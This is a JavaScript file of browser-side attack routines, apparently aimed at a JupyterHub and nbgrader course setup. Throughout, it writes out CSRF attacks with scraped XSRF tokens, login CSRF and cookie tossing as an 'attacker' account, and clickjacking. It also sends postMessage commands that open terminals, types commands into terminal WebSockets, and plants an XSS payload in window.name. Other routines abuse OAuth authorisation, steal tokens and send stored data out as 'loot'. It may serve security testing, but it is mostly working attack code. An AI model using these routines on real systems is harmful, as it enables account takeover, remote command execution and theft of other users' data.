// What the pages do, by name; see foreign_pages.py. The library gives them addresses and ways.
const PAGES = {
  async mirror() {
    await report("script", origin);
  },
  async fetch_with_credentials() {
    const tokens = {};
    await rob(async (url) => {
      const text = await (await fetch(url, {credentials: "include"})).text();
      const found = /_xsrf["'\s:=]+(?:value=)?["']([^"']{20,})|xsrf_token:\s*"([^"]+)/.exec(text);
      if (found) tokens[new URL(url).pathname.split("/").slice(0, 2).join("/")] = found[1] ?? found[2];
      return text;
    });
    await strike((one) => {
      const token = tokens[new URL(one.url).pathname.split("/").slice(0, 2).join("/")] ?? "";
      if (one.form) one = {...one, form: {...one.form, _xsrf: token}};
      return fetch(one.url, {...flat(one), credentials: "include",
        headers: {...flat(one).headers, "X-XSRFToken": token}});
    });
  },
  async fetch_as_plain_text() {
    await rob(async (url) => (await fetch(url, {mode: "no-cors", credentials: "include"})).text());
    await strike((one) => fetch(one.url, {...flat(one, "text/plain"), method: "POST",
      mode: "no-cors", credentials: "include"}));
  },
  async requests_that_ask_first() {
    const ask = (one) => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open(one.method ?? "GET", one.url);
      request.withCredentials = true;
      request.setRequestHeader("X-XSRFToken", "");
      request.setRequestHeader("X-Requested-With", "XMLHttpRequest");
      request.setRequestHeader("Content-Type", "application/json");
      request.onloadend = () => done(request.responseText);
      request.send(one.method ? packed(one) : null);
    });
    await rob((url) => ask({url}));
    await strike(ask);
  },
  async frames_without_origin() {
    const inner = `<script src="${me("lib.js")}"><\/script><script>(async () => {
      await rob(async (url) => (await fetch(url, {credentials: "include"})).text());
      await strike((one) => fetch(one.url, {...flat(one, "text/plain"), mode: "no-cors",
        method: "POST", credentials: "include"}));
      await report("null", origin); parent.postMessage("over", "*");
    })()<\/script>`;
    for (const set of [
      (frame) => { frame.sandbox = "allow-scripts allow-forms"; frame.srcdoc = inner; },
      (frame) => { frame.src = "data:text/html," + encodeURIComponent(inner); },
    ]) {
      const frame = document.createElement("iframe");
      set(frame);
      const over = new Promise((done) => window.addEventListener("message", done, {once: true}));
      document.body.append(frame);
      await soon(over, 6000);
    }
  },
  async beacons() {
    await strike((one) => navigator.sendBeacon(one.url, new Blob([packed(one)], {type: "text/plain"})));
    await strike((one) => fetch(one.url, {method: "POST", mode: "no-cors", keepalive: true,
      credentials: "include", body: packed(one)}));
  },
  async hidden_forms() {
    await strike((one) => post(one.url, {...(one.form ?? one.json), _xsrf: ""}, "application/x-www-form-urlencoded"));
  },
  async forms_of_text() {
    await strike((one) => {
      const text = JSON.stringify({...(one.json ?? one.form), ignore: "@"});
      const [name, value] = text.split("@");
      return post(one.url, {[name]: value}, "text/plain");
    });
  },
  async forms_with_files() {
    await strike((one) => post(one.url, one.form ?? {file: packed(one)}, "multipart/form-data"));
  },
  async forms_sent_on() {
    await all(A.acts, (one, n) => post(me("on/" + A.acts.indexOf(one)),
      one.form ?? {data: packed(one)}, "application/x-www-form-urlencoded"));
  },
  async form_of_the_whole_window() {
    const reset = A.acts.find((one) => one.form);
    await report("done", "leaving");
    document.title = "selesai";
    await send(formOf(reset.url, reset.form, "application/x-www-form-urlencoded", "_top"), document.body);
  },
  async log_in_as_the_trainee() {
    await post(A.hub + "login", {username: A.attacker, password: A.password, _xsrf: A.xsrf},
      "application/x-www-form-urlencoded");
    document.cookie = `_xsrf=${A.xsrf}; path=/hub/; domain=${A.domain}`;
    document.cookie = `_xsrf=${A.xsrf}; path=/hub/login; domain=${A.domain}`;
    await post(A.hub + "login?_xsrf=" + A.xsrf,
      {username: A.attacker, password: A.password, _xsrf: A.xsrf},
      "application/x-www-form-urlencoded");
  },
  async frames() {
    await all(A.pages, async (url) => {
      const frame = await loaded("iframe", {src: url});
      await possess(frame.contentWindow);
    });
  },
  async objects() {
    await all(A.pages, async (url) => possess((await loaded("object", {data: url})).contentWindow));
    await all(A.pages, async (url) => {
      await loaded("embed", {src: url});
      for (let n = 0; n < frames.length; n++) await tried(() => possess(frames[n]));
    });
  },
  async window_handle() {
    for (const url of A.pages) {
      const w = await opened(url);
      await tried(() => possess(w));
      await tried(() => report("loot", JSON.stringify({...w.localStorage})));
      await tried(() => { w.location = "javascript:opener.report('possessed', document.body.innerHTML)"; });
      w?.close();
    }
  },
  async opener() {
    await tried(() => possess(opener));
    await tried(() => { opener.location = me("palsu"); });
    await tried(() => { opener.location = "javascript:alert(1)"; });
  },
  async clickjacking() {
    document.body.style.margin = 0;
    for (const url of A.pages) {
      const frame = document.createElement("iframe");
      frame.style = "opacity:0.01;width:100vw;height:400px;border:0;display:block";
      frame.src = url;
      const there = new Promise((done) => { frame.onload = done; });
      document.body.append(frame);
      await soon(there);
    }
  },
  async messages() {
    const messages = A.acts.flatMap((one) => [
      {type: "command", command: "docmanager:new-untitled", args: {type: "file", path: "curian"}},
      {type: "execute", id: "terminal:create-new"}, {type: "from-iframe-to-host", ...one},
      {jsonrpc: "2.0", id: 1, method: "execute", params: one},
      JSON.stringify({command: "terminal:create-new"}),
    ]);
    window.addEventListener("message", (event) => report("loot", JSON.stringify(event.data)));
    for (const url of A.pages) {
      const w = await opened(url);
      const frame = await loaded("iframe", {src: url});
      for (const target of [w, frame.contentWindow])
        for (const message of messages) await tried(() => target.postMessage(message, "*"));
      await pause(100);
      w?.close();
    }
  },
  async window_name() {
    window.name = "<img src=x onerror=\"fetch('" + me("heard") + "',{method:'POST',mode:'no-cors',body:JSON.stringify({kind:'script',origin})})\">";
    await report("done", "leaving");
    document.title = "selesai";
    location = A.hub + "home";
  },
  async document_domain() {
    await tried(() => { document.domain = A.domain; });
    await all(A.pages, async (url) => possess((await loaded("iframe", {src: url})).contentWindow));
  },
  async service_worker() {
    for (const scope of ["/", "/hub/", "/services/", "/user/" + A.victim + "/", undefined])
      await tried(async () => {
        await navigator.serviceWorker.register(me("sw.js"), scope && {scope});
        await soon(navigator.serviceWorker.ready, 300);
      });
    for (const url of [A.hub, A.formgrader])
      await tried(() => navigator.serviceWorker.register(url + "../user/" + A.attacker + "/sw.js", {scope: "/"}));
  },
  async storage_and_channels() {
    await tried(() => report("loot", JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage})));
    await tried(async () => report("loot", JSON.stringify(await indexedDB.databases())));
    await tried(async () => report("loot", JSON.stringify(await caches.keys())));
    for (const name of ["jupyterlab", "jupyterhub", "rahasia", "kursus"]) {
      const channel = new BroadcastChannel(name);
      channel.onmessage = (event) => report("loot", JSON.stringify(event.data));
    }
    const worker = new SharedWorker("data:text/javascript,onconnect=e=>e.ports[0].postMessage('x')");
    for (const url of A.pages) { const w = await opened(url); await pause(50); w?.close(); }
  },
  async caches_of_staff() {
    await tried(async () => {
      const cache = await caches.open("v1");
      await all(A.pages, (url) => cache.put(url, new Response("<title>dikuasai</title>")));
    });
    await all(A.pages, (url) => fetch(url, {mode: "no-cors", cache: "reload", credentials: "omit"}));
    await all(A.pages, (url) => fetch(url + "?x", {mode: "no-cors", cache: "force-cache"}));
  },
  async history_of_staff() {
    for (const url of [...A.pages, "//" + new URL(A.hub).host + "/hub/home", A.hub + "login"])
      await tried(() => history.pushState({}, "", url));
    await tried(() => history.replaceState({}, "", A.hub + "login"));
  },
  async cookies_by_script() {
    for (const [name, value] of Object.entries(A.cookies))
      for (const domain of [A.domain, "." + A.domain, ""])
        for (const path of ["/", "/hub", "/hub/", "/hub/home", "/services/"]) {
          const where = `; path=${path}` + (domain ? `; domain=${domain}` : "");
          document.cookie = `${name}=${value}${where}`;
          document.cookie = `${name}=${value}${where}; secure; samesite=none`;
          document.cookie = `__Host-${name}=${value}${where}; secure`;
        }
    await post(A.hub + "login", {username: A.attacker, password: A.password, _xsrf: A.cookies._xsrf ?? ""},
      "application/x-www-form-urlencoded");
  },
  async cookies_by_header() {
    await all(["/", "/hub/", "/services/"], () => fetch(me("kue"), {credentials: "include"}));
  },
  async web_sockets() {
    await all(A.sockets, (url) => new Promise((done) => {
      const socket = new WebSocket(url);
      socket.onopen = () => {
        report("possessed", url);
        socket.send(JSON.stringify(["stdin", "touch curian.txt\r"]));
        setTimeout(done, 300);
      };
      socket.onmessage = (event) => report("loot", event.data);
      socket.onclose = socket.onerror = done;
    }));
  },
  async event_streams() {
    await all([...A.reads, A.hub + "api/users/" + A.victim + "/server/progress"], (url) => new Promise((done) => {
      const stream = new EventSource(url, {withCredentials: true});
      stream.onmessage = (event) => { report("loot", event.data); stream.close(); done(); };
      stream.onerror = () => { stream.close(); done(); };
    }));
  },
  async scripts_of_answers() {
    window.onerror = (text, file) => { report("loot", text); return true; };
    for (const key of ["name", "content", "rows", "data", "path", "rahasia"])
      Object.defineProperty(Object.prototype, key, {configurable: true, set(value) { report("loot", JSON.stringify(value)); }});
    const before = new Set(Object.keys(window));
    await all(A.reads, (src) => loaded("script", {src: src + (src.includes("?") ? "&" : "?") + "callback=report"}));
    await all(A.reads, (src) => loaded("script", {src, crossOrigin: "use-credentials"}));
    await all(A.reads, (src) => import(src));
    for (const key of ["name", "content", "rows", "data", "path", "rahasia"]) delete Object.prototype[key];
    const news = Object.keys(window).filter((key) => !before.has(key));
    await report("loot", news.map((key) => key + String(window[key])).join());
  },
  async styles_and_pictures() {
    await all(A.reads, async (href) => {
      const link = await loaded("link", {rel: "stylesheet", href, crossOrigin: "use-credentials"});
      await report("loot", [...link.sheet.cssRules].map((rule) => rule.cssText).join());
    });
    await all(A.reads, async (href) => {
      await loaded("link", {rel: "stylesheet", href});
      await report("loot", [...document.styleSheets].flatMap((s) => [...s.cssRules].map((r) => r.cssText)).join());
    });
    for (const [tag, key] of [["img", "src"], ["video", "src"], ["track", "src"]])
      await all(A.reads.slice(0, 4), (url) => loaded(tag, {[key]: url, crossOrigin: "use-credentials"}));
    await all(A.reads.slice(0, 4), (href) => loaded("link", {rel: "manifest", href, crossOrigin: "use-credentials"}));
    await report("loot", getComputedStyle(document.body).getPropertyValue("--rahasia"));
  },
  async style_that_tells() {
    await loaded("style", {textContent: `input[name=_xsrf][value^="2"]{background:url(${me("css")})}
      iframe{width:800px;height:400px}`});
    await all(A.pages, (src) => loaded("iframe", {src}));
    await report("loot", [...document.querySelectorAll("iframe")].map((f) => f.contentDocument?.body.innerText).join());
  },
  async ahead_of_need() {
    const urls = [A.hub + "logout", A.hub + "spawn/" + A.victim, ...A.pages];
    await all(urls, (href) => loaded("link", {rel: "prefetch", href}));
    await all(urls, (href) => loaded("link", {rel: "prerender", href}));
    await all(urls, (href) => loaded("link", {rel: "preload", as: "fetch", href, crossOrigin: "use-credentials"}));
    for (const kind of ["prefetch", "prerender"]) {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({[kind]: [{source: "list", urls, eagerness: "immediate"}]});
      document.head.append(script);
    }
    await pause(500);
  },
  async log_out() {
    await all(["logout", "logout?next=/hub/home", "logout?_xsrf="], (path) => loaded("img", {src: A.hub + path}));
    await all(["logout"], (path) => loaded("iframe", {src: A.hub + path}));
    await all(["logout"], (path) => fetch(A.hub + path, {mode: "no-cors", credentials: "include"}));
    await post(A.hub + "logout", {}, "application/x-www-form-urlencoded");
  },
  async authorise_in_silence() {
    const clients = [A.own_client, A.staff_client, A.other_client];
    const backs = [me("oauth_callback"), A.formgrader + "oauth_callback", me("oauth_callback") + "/../x", ""];
    const asked = clients.flatMap((id) => backs.map((back) => A.hub + "api/oauth2/authorize?response_type=code&state=x&client_id="
      + encodeURIComponent(id) + (back && "&redirect_uri=" + encodeURIComponent(back))));
    await all(asked, (url) => fetch(url, {mode: "no-cors", credentials: "include"}));
    await all(asked, (src) => loaded("iframe", {src}));
    await all(asked, (url) => post(url, {scopes: "identify", _xsrf: ""}, "application/x-www-form-urlencoded"));
    const w = await opened(asked[0]);
    await tried(() => possess(w));
    w?.close();
  },
  async foreign_code() {
    const codes = ["oauth_callback?code=curian&state=x", "oauth_callback?error=x", "oauth_callback?code=&state="];
    await all([A.formgrader, A.lab], (base) => all(codes, (path) => loaded("iframe", {src: base + path})));
    await all([A.formgrader, A.lab], (base) => all(codes, (path) => fetch(base + path, {mode: "no-cors", credentials: "include"})));
  },
  async next_page() {
    const host = new URL(A.me).host;
    await report("done", "leaving");
    document.title = "selesai";
  },
  async token_in_link() {
    await all(A.pages, (url) => loaded("iframe", {src: url + (url.includes("?") ? "&" : "?") + "token=" + A.token}));
    await all(A.pages, (url) => fetch(url + "?token=" + A.token, {mode: "no-cors", credentials: "include"}));
    const w = await opened(A.formgrader + "formgrader?token=" + A.token);
    w?.close();
  },
  async own_path_elsewhere() {
    const path = "user/" + A.attacker + "/cermin";
    for (const root of A.roots) {
      const w = await opened(root + path);
      w?.close();
      await loaded("iframe", {src: root + path});
    }
  },
  async other_names() {
    const port = new URL(A.hub).port, scheme = location.protocol;
    const hosts = ["127.0.0.1", "localhost", "[::1]", A.domain + ".", A.victim + "." + A.domain, "evil.test"];
    const bases = hosts.flatMap((host) => ["/hub/", "/services/" + A.course + "/"].map((path) => `${scheme}//${host}:${port}${path}`));
    await all(bases, async (base) => report("loot", await (await fetch(base + "api/user", {credentials: "include"})).text()));
    await all(bases, (base) => fetch(base + "api/users/" + A.victim + "/tokens", {method: "POST", mode: "no-cors",
      credentials: "include", body: JSON.stringify({note: "curian"})}));
    await all(A.ports, async (p) => report("loot", await (await fetch(`http://127.0.0.1:${p}/hub/api/user`, {credentials: "include"})).text()));
    await all(A.ports, (p) => fetch(`http://127.0.0.1:${p}/`, {method: "POST", mode: "no-cors", credentials: "include"}));
  },
  async tokens_of_others() {
    const headers = {Authorization: "token " + A.token};
    await all([A.exchange, A.caretaker, A.book], async (base) => report("loot", await (await fetch(base, {credentials: "include"})).text()));
    await strike((one) => fetch(one.url, {...flat(one), headers: {...flat(one).headers, ...headers}, credentials: "include"}));
    await strike((one) => fetch(one.url, {...flat(one), headers, credentials: "omit"}));
  },
  async script_addresses() {
    const say = `<script src="${me("lib.js")}"><\/script><script>report("script", origin)<\/script>`;
    const blob = URL.createObjectURL(new Blob([say], {type: "text/html"}));
    for (const url of A.pages) {
      const w = await opened(url, "staf");
      for (const next of ["javascript:fetch('" + me("heard") + "')", blob, "data:text/html," + encodeURIComponent(say)])
        await tried(() => window.open(next, "staf"));
      w?.close();
    }
    const doors = ["hub/login?next=javascript:alert(1)", "hub/user-redirect/javascript:alert(1)", "hub/error/404?message=<script>alert(1)<\/script>"];
    await all(doors, (path) => loaded("iframe", {src: A.hub_root + path}));
  },
};
